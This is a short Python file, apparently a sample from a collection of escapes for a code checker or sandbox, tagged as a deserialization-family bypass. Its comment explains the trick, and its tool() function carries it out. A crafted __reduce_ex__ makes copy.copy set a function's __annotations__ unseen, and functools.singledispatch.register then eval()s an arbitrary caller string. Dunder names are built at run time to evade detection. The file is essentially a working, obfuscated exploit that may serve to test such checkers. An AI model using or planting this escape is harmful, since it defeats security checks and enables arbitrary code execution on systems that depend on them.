# family: deser
# Escape: copy.copy(x) looks up __reduce_ex__ on the instance; a SimpleNamespace(**{run-time name: f}) supplies
# one returning (pick, (handler,), (None, {"__annotations__": ...})). copy._reconstruct then does
# setattr(handler, "__annotations__", ...) - an attribute store the checker never sees - and .register(handler)
# eval()s the caller's string.
import copy
import functools
import types


@functools.singledispatch
def handle(value):
    return value


def handler(value):
    return value


def pick(x):
    return x


def tool(code: str):
    u = "_" * 2
    state = (None, {u + "annotations" + u: {"value": code}})
    ns = types.SimpleNamespace(**{u + "reduce_ex" + u: lambda proto: (pick, (handler,), state)})
    copy.copy(ns)
    handle.register(handler)
    return handle(1)
